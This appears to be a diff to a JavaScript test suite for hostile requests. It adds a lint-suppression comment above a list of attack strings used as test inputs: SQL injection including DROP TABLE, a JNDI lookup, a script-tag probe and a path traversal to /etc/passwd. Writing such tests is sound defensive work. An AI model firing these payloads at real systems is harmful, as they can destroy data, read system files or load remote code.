@@ -202,6 +202,7 @@ describe('hostile and bad requests', () => {
       "' OR '1'='1",
       '1; DROP TABLE customers; --',
       '" OR ""="',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack string itself, sent as written
       '${jndi:ldap://x/a}',
       '<script>alert(1)</script>',
       '../../../../etc/passwd',
